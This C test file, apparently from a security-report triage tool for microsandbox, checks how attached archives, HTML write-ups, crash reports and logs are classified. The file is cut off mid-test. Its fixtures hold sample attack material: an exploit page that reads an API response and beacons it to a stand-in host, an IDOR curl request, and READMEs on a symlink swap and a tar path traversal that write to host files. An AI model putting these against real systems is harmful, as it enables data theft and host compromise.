/* test_extract_attachments.c — what attachments give: archives (roles, logs,
 * notes, description, credit), an HTML write-up, crash reports and host
 * logs, PDF and .docx documents, an attached write-up.
 * Split from test_extract.c by area; what the programs share is in
 * extract_helpers.h. */
#include <archive.h>
#include <archive_entry.h>

#include "extract_helpers.h"

/* A tar.gz in memory with MEMBERS (NULL-terminated), written by libarchive. */
static GBytes *
make_targz(const char *const *members)
{
	struct archive *w = archive_write_new();
	gsize cap = 1 << 16, used = 0;
	char *buf = g_malloc0(cap);

	archive_write_add_filter_gzip(w);
	archive_write_set_format_pax_restricted(w);
	g_assert_cmpint(archive_write_open_memory(w, buf, cap, &used), ==, ARCHIVE_OK);
	for (const char *const *m = members; *m; m++) {
		struct archive_entry *e = archive_entry_new();
		archive_entry_set_pathname(e, *m);
		archive_entry_set_size(e, 3);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_write_header(w, e);
		archive_write_data(w, "hi\n", 3);
		archive_entry_free(e);
	}
	archive_write_close(w);
	archive_write_free(w);
	return g_bytes_new_take(buf, used);
}

static void
test_archive_roles(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char *const scripts[] = { "repro/README.md", "repro/01-setup.sh", "repro/02-scan.sh", NULL };
	static const char *const logs[] = { "logs/host.log", "logs/guest.log", NULL };
	static const char *const *const sets[] = { scripts, logs };
	static const char *const want[] = { "poc", "log" };

	for (int i = 0; i < 2; i++) {
		g_autoptr(GBytes) tgz = make_targz(sets[i]);
		gsize len;
		const char *data = g_bytes_get_data(tgz, &len);
		Att atts[2] = { { "repro.tar.gz", "application/gzip", data, len }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "Archive attached.", atts);
		StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
		g_assert_nonnull(att->members);
		g_assert_cmpstr(st_role_name(att->role), ==, want[i]);
	}
}

/* A bundle of a script and the output of its run (1735: README, run.sh,
 * out.txt) shows logs: a member named as a log or a screenshot; one of
 * scripts and notes, or a member whose name only ends in "out", none. */
static void
test_archive_logs(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char *const bundle[] = { "b/README.md", "b/go.sh", "b/out.txt", NULL };
	static const char *const run_log[] = { "case/trigger.py", "case/first-run.log", NULL };
	static const char *const shot[] = { "x/poc.js", "x/terminal.png", NULL };
	static const char *const notes[] = { "r/NOTES.md", "r/exploit.sh", "r/checkout.txt", NULL };
	static const char *const code[] = { "s/main.rs", "s/layout.txt", "s/Cargo.toml", NULL };
	static const char *const *const sets[] = { bundle, run_log, shot, notes, code };
	static const gboolean want[] = { TRUE, TRUE, TRUE, FALSE, FALSE };

	for (gsize i = 0; i < G_N_ELEMENTS(sets); i++) {
		g_autoptr(GBytes) tgz = make_targz(sets[i]);
		gsize len;
		const char *data = g_bytes_get_data(tgz, &len);
		Att atts[2] = { { "case.tar.gz", "application/x-compressed-tar", data, len },
				{ NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "All in the tarball.", atts);
		StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
		g_assert_nonnull(att->members);
		if (a->check[ST_CHECK_LOGS] != want[i])
			FAIL("archive-logs case %zu: logs %d", i, a->check[ST_CHECK_LOGS]);
		g_assert_true(a->check[ST_CHECK_POC]);
	}
}

/* A write-up exported as a web page (1734: a pentest firm's report tool)
 * is read as it renders, like a .md write-up: its curl steps are the PoC,
 * the responses under them the logs.  A page of prose with no steps shows
 * neither, and the attacker's page named as the exploit stays the PoC. */
#define HTML_HEAD "<!DOCTYPE html>\n<html><head><style>p { margin: 0 }</style></head><body>\n"
static void
test_html_writeup(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char report[] = HTML_HEAD
		"<h1>R-7 &ndash; Snapshot listing ignores the project</h1>\n"
		"<h2>Summary</h2>\n<p>The snapshot listing endpoint returns the snapshots of every project in the region.</p>\n"
		"<p>It only checks that the token is valid and never compares the project of the snapshot.</p>\n"
		"<h2>Impact</h2>\n<p>Any customer can read the names and sizes of snapshots that belong to other customers.</p>\n"
		"<p>Snapshot names often carry customer and branch names, which we consider confidential.</p>\n"
		"<h2>Steps to reproduce</h2>\n<ol><li>With a token of project B, list the snapshots of project A:\n"
		"<pre>curl -s -i https://api.cloud.example/v1/projects/p-A/snapshots \\\n"
		"  -H &quot;Authorization: Bearer tok_B_0000&quot;</pre>\nResponse:\n"
		"<pre>HTTP/1.1 200 OK\ncontent-type: application/json\n\n[{&quot;id&quot;:&quot;s-91&quot;}]</pre></li></ol>\n"
		"<p>We stopped after this request and did not open any of the snapshots themselves.</p>\n"
		"<p>Please tell us when a fix is deployed so that we can verify it for our client.</p>\n"
		"</body></html>\n";
	static const char newsletter[] = HTML_HEAD
		"<h1>Autumn update from our security team</h1>\n"
		"<p>This quarter we welcomed three new consultants to the team in the northern office.</p>\n"
		"<p>Our training calendar for the next months is now open for registrations from customers.</p>\n"
		"<p>We also moved our reporting portal to a new address, and the old one redirects there.</p>\n"
		"<p>As always, feel free to reach out to your account manager with any questions at all.</p>\n"
		"<p>The next webinar covers cloud tenancy models and how they are usually tested by us.</p>\n"
		"<p>Thank you for working with us this year, and we look forward to the next one together.</p>\n"
		"</body></html>\n";
	static const char page[] = "<html><body><script>fetch('https://api.cloud.example/v1/me')"
		".then(r => r.text()).then(t => navigator.sendBeacon('https://x.example', t))</script></body></html>\n";
	static const struct {
		Att att;
		const char *role;
		gboolean poc, logs;
	} cases[] = {
		{ { "R-7_snapshot-listing.html", "text/html", report }, "other", TRUE, TRUE },
		{ { "export.htm", "application/octet-stream", report }, "other", TRUE, TRUE },
		{ { "autumn-update.html", "text/html", newsletter }, "other", FALSE, FALSE },
		{ { "exploit.html", "text/html", page }, "poc", TRUE, FALSE },
	};

	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
		Att atts[2] = { cases[i].att, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "Our finding is attached, regards.", atts);
		StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
		if (g_strcmp0(st_role_name(att->role), cases[i].role) != 0 ||
		    a->check[ST_CHECK_POC] != cases[i].poc || a->check[ST_CHECK_LOGS] != cases[i].logs)
			FAIL("html write-up case %zu: role %s poc %d logs %d", i, st_role_name(att->role),
			     a->check[ST_CHECK_POC], a->check[ST_CHECK_LOGS]);
	}
}

/* (3890) A code review's page exported from a wiki, under a body of more
 * than a few words that points to the export and says no PoC was built:
 * the page is the report, and the source it quotes is no reproduction. */
static void
test_html_review_export(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char review[] = HTML_HEAD
		"<h1>msb-vmm virtio-vsock: credit accounting trusts guest fwd_cnt</h1>\n"
		"<h2>Background</h2>\n<p>We are evaluating microsandbox for running customer notebooks in our bank.</p>\n"
		"<p>As part of the third-party review we read the device emulation that guest code can reach.</p>\n"
		"<h2>Finding</h2>\n<p>The host side stores the guest's credit values from every packet header without a "
		"check.</p>\n<pre><code class=\"language-rust\">fn update_peer_credit(&amp;mut self, hdr: &amp;VsockHeader) {\n"
		"    self.peer_buf_alloc = hdr.buf_alloc();\n    self.peer_fwd_cnt = hdr.fwd_cnt();\n}\n"
		"fn peer_free(&amp;self) -&gt; u32 {\n    let in_flight = self.tx_cnt.wrapping_sub(self.peer_fwd_cnt);\n"
		"}\n</code></pre>\n"
		"<p>A guest that lies about its counter could make the host queue far more data than it should hold.</p>\n"
		"<p>We believe the host process could run out of memory, which would affect every sandbox on it.</p>\n"
		"</body></html>\n";
	static const char body[] =
		"Hello,\n\nPlease find attached the export of our internal review page on msb-vmm's virtio-vsock device "
		"(HTML export from our wiki). We have not built a proof of concept and have not tried to trigger the "
		"issue; we are raising it so that you can assess it.\n\nKind regards,\n\nSigrid Halvorsen\n"
		"Application Security\n";
	Att atts[2] = { { "vsock-credit-accounting.html", "text/html", review }, { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) a = analyse(rules, NULL, body, atts);
	StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
	if (g_strcmp0(st_role_name(att->role), "other") != 0 || !a->check[ST_CHECK_DESCRIPTION] ||
	    a->check[ST_CHECK_POC])
		FAIL("review export: role %s description %d poc %d", st_role_name(att->role),
		     a->check[ST_CHECK_DESCRIPTION], a->check[ST_CHECK_POC]);
}

/* A thesis chapter's LaTeX source (3480) is a document: its "%" comment
 * line is no csh prompt, the line under it no output of a command. */
static void
test_latex_document(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char tex[] = "% cap4-ksm-bozza.tex -- bozza, non citare\n"
		"\\subsection{Deduplicazione della memoria tra sandbox}\\label{sec:ksm}\n\n"
		"Il VMM di microsandbox invoca \\texttt{madvise(MADV\\_MERGEABLE)} sulla memoria del guest.\n";
	static const Att atts[] = { { "cap4-ksm-bozza.tex", "text/x-tex", tex }, { NULL } };
	g_autoptr(StAnalysis) a = analyse(rules, NULL, "The draft chapter is attached.", atts);
	StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);

	g_assert_cmpstr(st_role_name(att->role), ==, "other");
	g_assert_false(a->check[ST_CHECK_LOGS]);
	g_assert_false(a->check[ST_CHECK_POC]);
}

/* A zip in memory of NAME, CONTENT pairs (NULL-terminated), written by
 * libarchive. */
static GBytes *
make_zip_of(const char *const *pairs)
{
	struct archive *w = archive_write_new();
	gsize cap = 1 << 20, used = 0;
	char *buf = g_malloc0(cap);

	archive_write_set_format_zip(w);
	g_assert_cmpint(archive_write_open_memory(w, buf, cap, &used), ==, ARCHIVE_OK);
	for (const char *const *m = pairs; *m; m += 2) {
		struct archive_entry *e = archive_entry_new();
		archive_entry_set_pathname(e, m[0]);
		archive_entry_set_size(e, (la_int64_t)strlen(m[1]));
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_write_header(w, e);
		archive_write_data(w, m[1], strlen(m[1]));
		archive_entry_free(e);
	}
	archive_write_close(w);
	archive_write_free(w);
	return g_bytes_new_take(buf, used);
}

/* The notes in an attached archive (a README beside the PoC) give the
 * version and the platform the body lacks, and the logs when they hold the
 * transcript of a run (1907: the output only in the zip's README.txt), as
 * the same text attached alone would; their steps are not the body's PoC,
 * and steps without their output show no logs. */
static void
test_archive_notes(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	g_autofree char *big = g_strnfill(70000, 'x');
	static const char readme[] =
		"# volume swap\n\nTested: msb 0.8.6 on Ubuntu 24.04.1 LTS, kernel 6.8.0-49-generic\n\n"
		"Steps:\n1. $ msb run -v ~/share:/share ubuntu -- bash\n2. bash /share/swap.sh\n\n"
		"Output:\n$ cat ~/.bashrc | tail -1\necho pwned\n[ERROR] msb::fs: copy failed: EACCES\n";
	const char *const with_poc[] = {
		"__MACOSX/p/._README.md", "msb 9.9.9 on Fedora 40",
		"p/README.md", readme, "p/swap.sh", "#!/bin/sh\nln -sfn \"$1\" /share/x\n", NULL,
	};
	const char *const notes_only[] = { "notes.txt", readme, NULL };
	static const char steps[] =
		"Repro notes\n===========\n\nTried on msb 0.8.6.\n\n"
		"1. Start a sandbox with the share mounted:\n\n    $ msb run -v ~/share:/share ubuntu -- bash\n\n"
		"2. Inside it run the script:\n\n    # bash /share/swap.sh\n\n"
		"3. Check the last line of ~/.bashrc on the host afterwards.\n";
	static const char run[] =
		"sandbox-swap\n\nWhat I ran on my laptop, and what it printed:\n\n"
		"$ python3 trigger.py --share ~/share\n[trigger] sandbox up: t1\n[trigger] link planted\n"
		"[trigger] done, 3 files copied\n$ tail -1 ~/.profile\nexport FROM_GUEST=1\n";
	const char *const steps_only[] = { "repro/NOTES.md", steps, "repro/swap.sh", "#!/bin/sh\nln -s / x\n", NULL };
	const char *const run_only[] = { "sandbox-swap/README.txt", run, "sandbox-swap/trigger.py", "print(1)\n", NULL };
	const char *const too_big[] = { "README", big, NULL };
	const char *const code_only[] = { "swap.sh", "# msb 0.8.6 on Ubuntu 24.04.1 LTS, kernel 6.8.0\n", NULL };
	const char *body = "Guest code can write host files through a shared volume; the PoC "
			   "and a README with the versions are in the zip.\n";

	g_autoptr(GBytes) zip = make_zip_of(with_poc);
	gsize len;
	const char *data = g_bytes_get_data(zip, &len);
	Att atts[2] = { { "swap.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) a = analyse(rules, NULL, body, atts);
	g_assert_cmpstr(a->version, ==, "0.8.6");
	g_assert_cmpstr(a->os, ==, "linux");
	g_assert_cmpstr(a->kernel, ==, "6.8.0-49-generic");
	g_assert_true(a->check[ST_CHECK_PLATFORM]);
	g_assert_true(a->check[ST_CHECK_LOGS]);   /* the README's pasted output */

	g_autoptr(GBytes) zip2 = make_zip_of(notes_only);
	data = g_bytes_get_data(zip2, &len);
	Att atts2[2] = { { "notes.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
	g_autoptr(StAnalysis) b = analyse(rules, NULL, body, atts2);
	g_assert_cmpstr(b->version, ==, "0.8.6");
	g_assert_false(b->check[ST_CHECK_POC]);    /* its steps are not the body's PoC */
	g_assert_true(b->check[ST_CHECK_LOGS]);

	/* a README of steps whose commands show no output: no logs; a run's
	 * transcript in a README.txt beside the script: logs */
	const char *const *const judged[] = { steps_only, run_only };
	const gboolean judged_logs[] = { FALSE, TRUE };
	for (gsize i = 0; i < G_N_ELEMENTS(judged); i++) {
		g_autoptr(GBytes) z = make_zip_of(judged[i]);
		data = g_bytes_get_data(z, &len);
		Att at[2] = { { "repro.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) c = analyse(rules, NULL, body, at);
		if (c->check[ST_CHECK_LOGS] != judged_logs[i])
			FAIL("archive notes logs case %zu: logs %d", i, c->check[ST_CHECK_LOGS]);
	}

	/* a member over max_member_bytes and a script are not notes */
	const char *const *const none[] = { too_big, code_only };
	for (gsize i = 0; i < G_N_ELEMENTS(none); i++) {
		g_autoptr(GBytes) z = make_zip_of(none[i]);
		data = g_bytes_get_data(z, &len);
		Att at[2] = { { "x.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) c = analyse(rules, NULL, body, at);
		g_assert_null(c->version);
		g_assert_null(c->os);
	}
	/* the body's own version comes first */
	g_autofree char *body2 = g_strconcat(body, "msb --version prints msb 0.8.5\n", NULL);
	data = g_bytes_get_data(zip, &len);
	g_autoptr(StAnalysis) d = analyse(rules, NULL, body2, atts);
	g_assert_cmpstr(d->version, ==, "0.8.5");
}

/* (#3) an archive named as logs (a CI service's log archive) holds logs:
 * a step's text named after the step ("3_repro.txt") is no reproduction
 * there, a script is; the same members under another name are the PoC */
static void
test_archive_log_named(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char *const steps[] = { "unit (x64)/1_Set up job.txt", "2029-01-02T10:00:00Z Current runner version\n",
				      "unit (x64)/3_repro.txt", "2029-01-02T10:00:05Z msb exec sb1 -- id\n", NULL };
	static const char *const script[] = { "unit (x64)/3_repro.txt", "2029-01-02T10:00:05Z run\n",
				       "exploit.py", "import os\nprint(os.getuid())\n", NULL };
	static const struct {
		const char *name;
		const char *const *members;
		StRole role;
	} cases[] = {
		{ "logs_90210.zip", steps, ST_ROLE_LOG },
		{ "job-logs.tar", steps, ST_ROLE_LOG },
		{ "repro-bundle.zip", steps, ST_ROLE_POC },
		{ "logs_90211.zip", script, ST_ROLE_POC },
	};
	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_autoptr(GBytes) z = make_zip_of(cases[i].members);
		gsize len;
		const char *data = g_bytes_get_data(z, &len);
		Att at[2] = { { cases[i].name, "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "The exec lands in the wrong sandbox; the run's "
						  "logs are attached.", at);
		StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
		if (att->role != cases[i].role)
			FAIL("log-named archive %zu (%s): role %s", i, cases[i].name, st_role_name(att->role));
	}
}


/* The README in an attached archive that tells what is wrong and what an
 * attacker gains is the write-up when the body only points to the
 * archive, as an attached report.md is (issue #3); one that only says how
 * to run the script describes nothing. */
static void
test_archive_description(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char writeup[] =
		"# Snapshot import trusts the archive's paths\n\n"
		"When msb imports a snapshot it extracts the tar entries without checking them, so an "
		"entry named ../../.config/autostart/x.desktop lands outside the snapshot directory.\n\n"
		"## Impact\n\nAnyone who hands a user a snapshot file can write any file that user can "
		"write on the host, and gets code execution at the next login.\n";
	static const char howto[] = "Run ./make_snap.sh, then msb snapshot import out.snap.\n";
	const char *const writeup_zip[] = { "snap/README.md", writeup, "snap/make_snap.sh", "#!/bin/sh\ntar cf out.snap x\n", NULL };
	const char *const bare[] = { "snap/README.md", howto, "snap/make_snap.sh", "#!/bin/sh\ntar cf out.snap x\n", NULL };
	const char *const *const sets[] = { writeup_zip, bare };
	static const gboolean want[] = { TRUE, FALSE };

	for (gsize i = 0; i < G_N_ELEMENTS(sets); i++) {
		g_autoptr(GBytes) z = make_zip_of(sets[i]);
		gsize len;
		const char *data = g_bytes_get_data(z, &len);
		Att at[2] = { { "snap-import.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "Write-up and script in the zip.\n", at);
		if (a->check[ST_CHECK_DESCRIPTION] != want[i])
			FAIL("archive description case %zu: description %d", i, a->check[ST_CHECK_DESCRIPTION]);
		g_assert_true(a->check[ST_CHECK_POC]);
	}
}

/* The credit a write-up README in an attached archive asks for is the
 * report's, as an attached report.md's is (issue #3): a Credit section
 * with a link, a wish to stay anonymous; a README that only says how to
 * run the script, or a packed project's README, whose credits are for
 * others, gives none. */
static void
test_archive_credit(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char writeup[] =
		"# Port forward binds every interface\n\n"
		"When you publish a port with -p, msbd binds the host side on all interfaces instead of "
		"loopback, so the service inside the sandbox is exposed to the whole network.\n\n## Impact\n\n"
		"An attacker on the same network can connect to a service the user meant to keep local and "
		"read its data.\n\n"
		"## Credit\n\nOrla Whelan (https://whelan-sec.example)\n";
	static const char anon[] =
		"# Port forward binds every interface\n\n"
		"When you publish a port with -p, msbd binds the host side on all interfaces instead of "
		"loopback, so the service inside the sandbox is exposed to the whole network.\n\n## Impact\n\n"
		"An attacker on the same network can connect to a service the user meant to keep local and "
		"read its data.\n\n"
		"Please keep me anonymous in the advisory.\n";
	static const char howto[] = "Run ./bind.sh, then curl the host's LAN address.\n\n"
				    "## Credits\n\nbind.sh is adapted from a snippet by Orla Whelan "
				    "(https://whelan-sec.example).\n";
	static const char project[] = "# tinyhttpd\n\nA small web server for tests.\n\n"
				      "## Credits\n\nWritten by Per Lindahl (https://lindahl.example).\n";
	const char *const sets[][5] = {
		{ "bind/README.md", writeup, "bind/bind.sh", "#!/bin/sh\nmsb run -p 8080:80 nginx\n", NULL },
		{ "bind/README.md", anon, "bind/bind.sh", "#!/bin/sh\nmsb run -p 8080:80 nginx\n", NULL },
		{ "bind/README.md", howto, "bind/bind.sh", "#!/bin/sh\nmsb run -p 8080:80 nginx\n", NULL },
		{ "tinyhttpd/README.md", project, "tinyhttpd/run.sh", "#!/bin/sh\nmsb run -p 8080:80 x\n", NULL },
	};
	static const struct { gboolean found, anonymous; const char *name, *link; } want[] = {
		{ TRUE, FALSE, "Orla Whelan", "https://whelan-sec.example" },
		{ TRUE, TRUE, NULL, NULL },
		{ FALSE, FALSE, NULL, NULL },
		{ FALSE, FALSE, NULL, NULL },
	};

	for (gsize i = 0; i < G_N_ELEMENTS(sets); i++) {
		g_autoptr(GBytes) z = make_zip_of(sets[i]);
		gsize len;
		const char *data = g_bytes_get_data(z, &len);
		Att at[2] = { { "bind-poc.zip", "application/zip", data, len }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "Everything is in the zip.\n", at);
		if (a->credit_found != want[i].found || a->credit_anonymous != want[i].anonymous ||
		    g_strcmp0(a->credit_name, want[i].name) != 0 || g_strcmp0(a->credit_link, want[i].link) != 0)
			FAIL("archive credit case %zu: found %d anonymous %d name %s link %s", i, a->credit_found,
			     a->credit_anonymous, a->credit_name, a->credit_link);
	}
}

/* issue #3: "Version and OS are in the crash report": the crash report
 * sent as application/octet-stream gives the version and the fields of
 * the host the body names that the body lacks; another program's crash
 * report gives no version. */
/* (#3, 4300) an OpenSSF Scorecard result attached as JSON is the tool's
 * output, a log, never the PoC its .json name would make it */
static void
test_scorecard_json(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	Att atts[] = {
		{ "scorecard-msb.json", "application/json",
		  "{\n  \"date\": \"2028-03-24T16:51:07+01:00\",\n  \"scorecard\": {\n    \"version\": \"v5.3.0\"\n  },\n"
		  "  \"score\": 5.8,\n  \"checks\": [\n    {\n      \"details\": null,\n      \"score\": 0,\n"
		  "      \"reason\": \"detected GitHub workflow tokens with excessive permissions\",\n"
		  "      \"name\": \"Token-Permissions\"\n    }\n  ]\n}\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) a = analyse(rules, NULL, PROSE "The Scorecard result is attached.", atts);
	StAttachment *c = g_ptr_array_index(a->msg->attachments, 0);
	g_assert_cmpint(c->role, ==, ST_ROLE_LOG);
}

static void
test_crash_report_facts(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	Att atts[] = {
		{ "poc.c", "text/x-csrc", "#include <unistd.h>\nint main(void) { return 0; }\n" },
		{ "msb_2027-03-01-0915.crash", "application/octet-stream",
		  "Incident Identifier: 0C6F7B1A-22D4-4E8B-9A51-3F0D6C2E7B90\n"
		  "Process:               msb [4242]\nPath:                  /usr/local/bin/msb\n"
		  "Identifier:            msb\nVersion:               0.9.2\n"
		  "OS Version:            macOS 14.7.2 (23H311)\n"
		  "Exception Type:        EXC_BAD_ACCESS (SIGSEGV)\nCrashed Thread:        3\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) a = analyse(rules, NULL, "It is my MacBook Air (M2). Version and OS are in "
					  "the crash report.", atts);
	g_assert_cmpstr(a->version, ==, "0.9.2");
	g_assert_cmpstr(a->os, ==, "macos");
	g_assert_cmpstr(a->macos_version, ==, "14.7.2");
	g_assert_cmpstr(a->chip, ==, "Apple M2");
	g_assert_true(a->check[ST_CHECK_PLATFORM]);
	g_assert_true(a->check[ST_CHECK_LOGS]);
	StAttachment *c = g_ptr_array_index(a->msg->attachments, 1);
	g_assert_cmpint(c->role, ==, ST_ROLE_LOG);

	Att other[] = {
		{ "Safari-2027-03-01.crash", "application/octet-stream",
		  "Process:               Safari [812]\nIdentifier:            com.apple.Safari\n"
		  "Version:               17.5\nException Type:        EXC_CRASH (SIGABRT)\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) b = analyse(rules, NULL, "Safari crashed while msb was running.", other);
	g_assert_null(b->version);
	g_assert_false(b->check[ST_CHECK_VERSION]);

	/* (3252) a scanner's CSV export under a comment line is its output */
	Att scan[] = {
		{ "deepaudit-findings.csv", "text/csv",
		  "# DeepAudit export,generated 2026-11-20T13:05:44Z,ref v0.12.6\n"
		  "finding_id,severity,confidence,cwe,file,start_line,end_line,rule,title,status\n"
		  "DA-2026-1147,High,Medium,CWE-367,crates/msb-fsd/src/resolve.rs,212,248,rust.fs.toctou,\"TOCTOU\",Open\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) s = analyse(rules, NULL, "Our vendor's scanner reported a TOCTOU race in msb-fsd; "
					  "its export is attached.", scan);
	g_assert_true(s->check[ST_CHECK_LOGS]);
}

/* (#3) an attachment's file name that names the product and its release
 * gives the version when nothing else does (2449): a screenshot named
 * after what it shows; the body's version comes first, and a name with
 * another tool's release after the product's name gives none. */
static void
test_file_name_version(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char png[] = "\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
	static const struct {
		const char *name, *body, *want;
	} cases[] = {
		{ "microsandbox-0.9.7-escape.png", "The screenshot shows the whole run.", "0.9.7" },
		{ "msb-server_0.10.1.png", "See the screenshot.", "0.10.1" },
		{ "microsandbox-0.9.7-escape.png", "Reproduced on msb 0.9.8 as well.", "0.9.8" },
		{ "msb-vs-docker-27.3.1.png", "See the screenshot.", NULL },
		{ "Screenshot 2030-01-05 at 10.41.07.png", "See the screenshot.", NULL },
	};

	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
		Att atts[] = { { cases[i].name, "image/png", png, sizeof(png) - 1 }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, cases[i].body, atts);
		g_assert_cmpstr(a->version, ==, cases[i].want);
	}
}

/* (1413) an attached log that is the host's journal gives the kernel the
 * body lacks from the kernel's boot banner; a bare dmesg or serial console
 * banner (as often the guest's boot) does not. */
static void
test_host_log_kernel(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	Att atts[] = {
		{ "node-journal.txt", "text/plain",
		  "Mar 02 07:55:10 gpu-node-3 kernel: Linux version 6.11.0-19-generic (buildd@bos03-amd64-051) "
		  "(x86_64-linux-gnu-gcc-14 (Ubuntu 14.2.0-4ubuntu2) 14.2.0, GNU ld 2.43.1) #19-Ubuntu SMP "
		  "PREEMPT_DYNAMIC Wed Feb 12 2027\n"
		  "Mar 04 11:02:31 gpu-node-3 msbd[1881]: sandbox sb-41: vmm exited with signal SIGSEGV\n"
		  "Mar 04 11:02:33 gpu-node-3 systemd-coredump[9120]: Process 9077 (msb-vmm) dumped core.\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) a = analyse(rules, NULL, "The dump of msb-vmm is world readable on our "
					  "Ubuntu 24.10 nodes; the journal is attached.", atts);
	g_assert_cmpstr(a->distro, ==, "Ubuntu 24.10");
	g_assert_cmpstr(a->kernel, ==, "6.11.0-19-generic");

	Att guest[] = {
		{ "console.log", "text/plain",
		  "[    0.000000] Linux version 6.6.52 (builder@krunfw) (gcc 13.2.0) #1 SMP Thu Jan 1 2027\n"
		  "[    0.012000] Command line: console=hvc0 root=/dev/vda rw\n"
		  "[    1.204000] msb-agent: ready\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) b = analyse(rules, NULL, "The dump of msb-vmm is world readable on our "
					  "Ubuntu 24.10 nodes; the console log is attached.", guest);
	g_assert_cmpstr(b->distro, ==, "Ubuntu 24.10");
	g_assert_null(b->kernel);

	/* (#3) a Windows console transcript (CRLF) gives the build the body's
	 * edition lacks: a Windows build is never a guest's; a build only
	 * mentioned in a line of prose in the log is not the banner */
	Att console[] = {
		{ "transcript.txt", "text/plain",
		  "Microsoft Windows [Version 10.0.26100.3194]\r\n(c) Microsoft Corporation.\r\n\r\n"
		  "C:\\Users\\dev>msb run alpine -- true\r\nerror: access denied\r\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) c = analyse(rules, NULL, "msbd.exe runs as SYSTEM on my Windows 11 Pro "
					  "24H2 desktop; the console output is attached.", console);
	g_assert_cmpstr(c->os, ==, "windows");
	g_assert_cmpstr(c->kernel, ==, "10.0.26100.3194");
	Att said[] = {
		{ "notes.log", "text/plain",
		  "12:01 upgraded from Microsoft Windows [Version 10.0.22631.4751] last month, msb failed\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) d = analyse(rules, NULL, "msbd.exe runs as SYSTEM on my Windows 11 Pro "
					  "24H2 desktop; the log is attached.", said);
	g_assert_null(d->kernel);

	/* (#3, 1969) `uname -r` at the user@host prompt that runs msb, before
	 * or after it, is the host's; at a guest's prompt it is not */
	const char *host_terms[] = {
		"kai@devbox:~$ uname -r\n6.12.9-200.fc41.x86_64\nkai@devbox:~$ msb run --name z alpine -- true\n"
		"error: denied\n",
		"kai@devbox:~/src$ msb --version\nmsb 0.9.1\nkai@devbox:~/src$ uname -r\n6.12.9-200.fc41.x86_64\n",
	};
	for (gsize i = 0; i < G_N_ELEMENTS(host_terms); i++) {
		Att term[] = { { "terminal.txt", "text/plain", host_terms[i] }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) e = analyse(rules, NULL, "The shared cache leaks between users on my "
						  "Fedora Linux 41 workstation; terminal output attached.", term);
		if (g_strcmp0(e->kernel, "6.12.9-200.fc41.x86_64") != 0)
			FAIL("host prompt case %zu: kernel %s", i, e->kernel);
	}
	Att in_guest[] = {
		{ "terminal.txt", "text/plain",
		  "kai@devbox:~$ msb exec -it z sh\nroot@z:/# uname -r\n6.6.52\nroot@z:/# exit\n" },
		{ NULL, NULL, NULL, 0 },
	};
	g_autoptr(StAnalysis) f = analyse(rules, NULL, "The shared cache leaks between users on my "
					  "Fedora Linux 41 workstation; terminal output attached.", in_guest);
	g_assert_cmpstr(f->distro, ==, "Fedora Linux 41");
	g_assert_null(f->kernel);
}

/* Windows writes its error reports (.wer) in UTF-16 with a byte-order
 * mark, and mailers send them as application/octet-stream: such a report
 * is read as text, a log, and gives msb's version; a text/plain part
 * labelled UTF-16 is read whole, not cut at its first NUL. */
static void
test_crash_report_utf16(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char wer[] = "Version=1\r\nEventType=APPCRASH\r\n"
		"Sig[0].Name=Application Name\r\nSig[0].Value=msb.exe\r\n"
		"Sig[1].Name=Application Version\r\nSig[1].Value=0.9.3.0\r\n"
		"Sig[3].Name=Fault Module Name\r\nSig[3].Value=ntdll.dll\r\n";
